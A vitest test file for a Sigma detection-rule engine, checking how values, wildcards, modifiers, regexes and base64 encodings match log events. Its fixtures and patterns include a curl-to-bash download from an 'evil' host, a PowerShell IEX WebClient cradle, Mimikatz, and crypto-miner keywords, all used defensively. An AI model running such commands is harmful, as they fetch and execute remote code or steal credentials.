/**
 * Sigma value semantics, one block per construct of the Sigma rules specification and its modifier
 * appendix (v2): every case shows a match and a near miss.
 */
import { describe, expect, it } from 'vitest';
import { compileDetection } from '../../src/runtime/sigma/compile.js';

const m = (selection: unknown, event: unknown): boolean => compileDetection({ sel: selection, condition: 'sel' }, undefined).match(event);

describe('plain values', () => {
  it('compares strings case-insensitively by default', () => {
    expect(m({ MFAUsed: 'NO' }, { MFAUsed: 'No' })).toBe(true);
    expect(m({ MFAUsed: 'NO' }, { MFAUsed: 'Nope' })).toBe(false);
  });
  it('matches the whole value, not a substring', () => {
    expect(m({ eventName: 'ConsoleLogin' }, { eventName: 'ConsoleLoginX' })).toBe(false);
  });
  it('ORs a list of values', () => {
    expect(m({ eventName: ['StopLogging', 'DeleteTrail'] }, { eventName: 'DeleteTrail' })).toBe(true);
    expect(m({ eventName: ['StopLogging', 'DeleteTrail'] }, { eventName: 'CreateTrail' })).toBe(false);
  });
  it('ANDs the items of a map', () => {
    expect(m({ a: 'x', b: 'y' }, { a: 'x', b: 'y' })).toBe(true);
    expect(m({ a: 'x', b: 'y' }, { a: 'x', b: 'z' })).toBe(false);
  });
  it('ORs a list of maps', () => {
    const sel = [{ a: '1' }, { b: '2' }];
    expect(m(sel, { b: '2' })).toBe(true);
    expect(m(sel, { a: '2', b: '1' })).toBe(false);
  });
  it('compares numbers and booleans through their text', () => {
    expect(m({ code: 403 }, { code: 403 })).toBe(true);
    expect(m({ code: 403 }, { code: '403' })).toBe(true);
    expect(m({ enable: 'false' }, { enable: false })).toBe(true);
    expect(m({ enable: 'false' }, { enable: true })).toBe(false);
  });
  it('null matches a missing or null field only', () => {
    expect(m({ errorCode: null }, {})).toBe(true);
    expect(m({ errorCode: null }, { errorCode: null })).toBe(true);
    expect(m({ errorCode: null }, { errorCode: 'AccessDenied' })).toBe(false);
  });
  it("'' matches an empty string only", () => {
    expect(m({ a: '' }, { a: '' })).toBe(true);
    expect(m({ a: '' }, {})).toBe(false);
    expect(m({ a: '' }, { a: 'x' })).toBe(false);
  });
});

describe('wildcards and escaping', () => {
  it('* matches any run, ? one character', () => {
    expect(m({ a: 'prog?.exe' }, { a: 'progA.exe' })).toBe(true);
    expect(m({ a: 'prog?.exe' }, { a: 'progAB.exe' })).toBe(false);
    expect(m({ a: 'antivirus_V*.exe' }, { a: 'antivirus_V21.2.1.exe' })).toBe(true);
    expect(m({ a: 'a*c' }, { a: 'ab' })).toBe(false);
  });
  it('\\* and \\? are literal; a lone backslash stays a backslash', () => {
    expect(m({ a: 'x\\*y' }, { a: 'x*y' })).toBe(true);
    expect(m({ a: 'x\\*y' }, { a: 'xzy' })).toBe(false);
    expect(m({ a: 'x\\?' }, { a: 'x?' })).toBe(true);
    expect(m({ a: 'x\\?' }, { a: 'xa' })).toBe(false);
    expect(m({ a: 'C:\\Windows' }, { a: 'C:\\Windows' })).toBe(true);
  });
  it('\\\\* is a backslash followed by a wildcard', () => {
    expect(m({ a: 'dir\\\\*' }, { a: 'dir\\anything' })).toBe(true);
    expect(m({ a: 'dir\\\\*' }, { a: 'dir/anything' })).toBe(false);
  });
});

describe('fields', () => {
  it('walks dotted names into nested JSON', () => {
    expect(m({ 'userIdentity.type': 'Root' }, { userIdentity: { type: 'Root' } })).toBe(true);
    expect(m({ 'userIdentity.type': 'Root' }, { userIdentity: { kind: 'Root' } })).toBe(false);
  });
  it('finds flattened keys that contain dots (Falco output_fields, nvidia.com/gpu)', () => {
    expect(m({ 'output_fields.container.image.repository': 'vllm/vllm-openai' }, { output_fields: { 'container.image.repository': 'vllm/vllm-openai' } })).toBe(true);
    expect(m({ 'limits.nvidia.com/gpu|exists': true }, { limits: { 'nvidia.com/gpu': 1 } })).toBe(true);
    expect(m({ 'limits.nvidia.com/gpu|exists': true }, { limits: { cpu: 1 } })).toBe(false);
  });
  it('matches any element of an array on the way', () => {
    const ev = { spec: { containers: [{ image: 'nginx' }, { image: 'vllm' }] } };
    expect(m({ 'spec.containers.image': 'vllm' }, ev)).toBe(true);
    expect(m({ 'spec.containers.image': 'ray' }, ev)).toBe(false);
  });
  it('compares an object value as its JSON text', () => {
    expect(m({ 'responseElements|contains': 'Failure' }, { responseElements: { ConsoleLogin: 'Failure' } })).toBe(true);
    expect(m({ 'responseElements|contains': 'Failure' }, { responseElements: { ConsoleLogin: 'Success' } })).toBe(false);
  });
});

describe('string modifiers', () => {
  it('contains', () => {
    expect(m({ 'ua|contains': 'boto3' }, { ua: 'Boto3/1.34 Python' })).toBe(true);
    expect(m({ 'ua|contains': 'boto3' }, { ua: 'aws-cli/2' })).toBe(false);
  });
  it('startswith', () => {
    expect(m({ 'u|startswith': 'BedrockAPIKey-' }, { u: 'bedrockapikey-x1' })).toBe(true);
    expect(m({ 'u|startswith': 'BedrockAPIKey-' }, { u: 'x-BedrockAPIKey-' })).toBe(false);
  });
  it('endswith', () => {
    expect(m({ 'img|endswith': '\\cmd.exe' }, { img: 'C:\\Windows\\cmd.exe' })).toBe(true);
    expect(m({ 'img|endswith': '\\cmd.exe' }, { img: 'C:\\Windows\\cmd.exe.bak' })).toBe(false);
  });
  it('all turns the value list into AND', () => {
    const sel = { 'cmd|contains|all': ['curl', '| sh'] };
    expect(m(sel, { cmd: 'curl http://x | sh' })).toBe(true);
    expect(m(sel, { cmd: 'curl http://x' })).toBe(false);
  });
  it('cased compares case-sensitively', () => {
    expect(m({ 'a|cased': 'Admin' }, { a: 'Admin' })).toBe(true);
    expect(m({ 'a|cased': 'Admin' }, { a: 'admin' })).toBe(false);
    expect(m({ 'a|contains|cased': 'Key' }, { a: 'my-key' })).toBe(false);
  });
  it('windash permutes - and / at option positions', () => {
    const sel = { 'cmd|windash|contains': ' -enc ' };
    expect(m(sel, { cmd: 'powershell /enc AAA ' })).toBe(true);
    expect(m(sel, { cmd: 'powershell \u2013enc AAA ' })).toBe(true);
    expect(m(sel, { cmd: 'powershell enc AAA ' })).toBe(false);
  });
});

describe('regular expressions', () => {
  it('re is case-sensitive and unanchored', () => {
    expect(m({ 'arn|re': ':assumed-role/aws:.+' }, { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' })).toBe(true);
    expect(m({ 'arn|re': 'ASSUMED-ROLE' }, { arn: 'arn:aws:sts::1:assumed-role/x' })).toBe(false);
  });
  it('re|i, re|m and re|s set the flags', () => {
    expect(m({ 'a|re|i': 'ASSUMED' }, { a: 'assumed' })).toBe(true);
    expect(m({ 'a|re|m': '^two$' }, { a: 'one\ntwo\nthree' })).toBe(true);
    expect(m({ 'a|re': '^two$' }, { a: 'one\ntwo\nthree' })).toBe(false);
    expect(m({ 'a|re|s': 'one.two' }, { a: 'one\ntwo' })).toBe(true);
    expect(m({ 'a|re': 'one.two' }, { a: 'one\ntwo' })).toBe(false);
  });
  it('accepts a leading (?i) inline flag', () => {
    expect(m({ 'a|re': '(?i)^admin' }, { a: 'ADMIN-user' })).toBe(true);
  });
});

describe('type modifiers', () => {
  it('cidr matches IPv4 and IPv6 networks', () => {
    expect(m({ 'ip|cidr': '10.0.0.0/8' }, { ip: '10.20.30.40' })).toBe(true);
    expect(m({ 'ip|cidr': '10.0.0.0/8' }, { ip: '11.0.0.1' })).toBe(false);
    expect(m({ 'ip|cidr': ['192.168.0.0/16', 'fd00::/8'] }, { ip: 'fd12:3456::1' })).toBe(true);
    expect(m({ 'ip|cidr': 'fd00::/8' }, { ip: 'fe80::1' })).toBe(false);
    expect(m({ 'ip|cidr': '10.0.0.0/8' }, { ip: 'bedrock.amazonaws.com' })).toBe(false);
  });
  it('exists true / false', () => {
    expect(m({ 'errorCode|exists': true }, { errorCode: 'AccessDenied' })).toBe(true);
    expect(m({ 'errorCode|exists': true }, {})).toBe(false);
    expect(m({ 'errorCode|exists': false }, {})).toBe(true);
    expect(m({ 'errorCode|exists': false }, { errorCode: 'x' })).toBe(false);
  });
  it('gt, gte, lt, lte compare numbers', () => {
    expect(m({ 'code|gte': 400 }, { code: 400 })).toBe(true);
    expect(m({ 'code|gt': 400 }, { code: 400 })).toBe(false);
    expect(m({ 'code|lt': 400 }, { code: 101 })).toBe(true);
    expect(m({ 'code|lte': 400 }, { code: '401' })).toBe(false);
    expect(m({ 'code|gt': 1 }, { code: 'many' })).toBe(false);
  });
  it('fieldref compares two fields of the event', () => {
    expect(m({ 'a|fieldref': 'b' }, { a: 'Alice', b: 'alice' })).toBe(true);
    expect(m({ 'a|fieldref': 'b' }, { a: 'Alice', b: 'bob' })).toBe(false);
    expect(m({ 'a|fieldref': 'b' }, { a: 'Alice' })).toBe(false);
    expect(m({ 'arn|fieldref|endswith': 'user' }, { arn: 'arn:aws:iam::1:user/alice', user: 'alice' })).toBe(true);
  });
});

describe('encoding modifiers', () => {
  it('base64 matches the encoded value', () => {
    expect(m({ 'p|base64': 'http://' }, { p: Buffer.from('http://').toString('base64') })).toBe(true);
    expect(m({ 'p|base64': 'http://' }, { p: 'http://' })).toBe(false);
  });
  it('base64offset|contains finds the value at any offset of a base64 blob', () => {
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const blob = Buffer.from(`${prefix}curl http://evil/x.sh | bash`).toString('base64');
      expect(m({ 'p|base64offset|contains': 'http://evil' }, { p: blob })).toBe(true);
    }
    expect(m({ 'p|base64offset|contains': 'http://evil' }, { p: Buffer.from('http://good/').toString('base64') })).toBe(false);
  });
  it('utf16le (wide) then base64, as PowerShell -EncodedCommand', () => {
    const blob = Buffer.from('IEX (New-Object Net.WebClient)', 'utf16le').toString('base64');
    expect(m({ 'p|wide|base64offset|contains': 'Net.WebClient' }, { p: blob })).toBe(true);
    expect(m({ 'p|utf16le|base64offset|contains': 'Invoke-Mimikatz' }, { p: blob })).toBe(false);
  });
});

describe('keywords', () => {
  it('a list of strings is searched anywhere in the event', () => {
    const det = { keywords: ['xmrig', 'stratum+tcp'], condition: 'keywords' };
    expect(compileDetection(det, undefined).match({ a: { b: 'running XMRig 6.21' } })).toBe(true);
    expect(compileDetection(det, undefined).match({ a: { b: 'nginx' } })).toBe(false);
  });
  it("'|all' keyword maps require every keyword", () => {
    const det = { keywords: { '|all': ['OabVirtualDirectory', ' -ExternalUrl '] }, condition: 'keywords' };
    expect(compileDetection(det, undefined).match({ cmd: 'Set-OabVirtualDirectory -ExternalUrl http://x' })).toBe(true);
    expect(compileDetection(det, undefined).match({ cmd: 'Set-OabVirtualDirectory' })).toBe(false);
  });
});

describe('regex simplification', () => {
  it('drops leading and trailing .* / .+ without changing what matches', async () => {
    const { simplifyRegex } = await import('../../src/runtime/sigma/modifiers.js');
    expect(simplifyRegex('.+:assumed-role/aws:.+')).toBe('.:assumed-role/aws:.');
    expect(simplifyRegex('.*evil.*')).toBe('evil');
    expect(simplifyRegex('a\\.+')).toBe('a\\.+');
    expect(simplifyRegex('.+?x')).toBe('.+?x');
    expect(simplifyRegex('.*')).toBe('(?:)');
    for (const [re, s] of [['.+:assumed-role/aws:.+', 'arn:aws:sts::1:assumed-role/aws:x'], ['.+:assumed-role/aws:.+', ':assumed-role/aws:x'], ['.+:assumed-role/aws:.+', 'x:assumed-role/aws:']] as const) {
      expect(new RegExp(simplifyRegex(re)).test(s)).toBe(new RegExp(re).test(s));
    }
  });
});
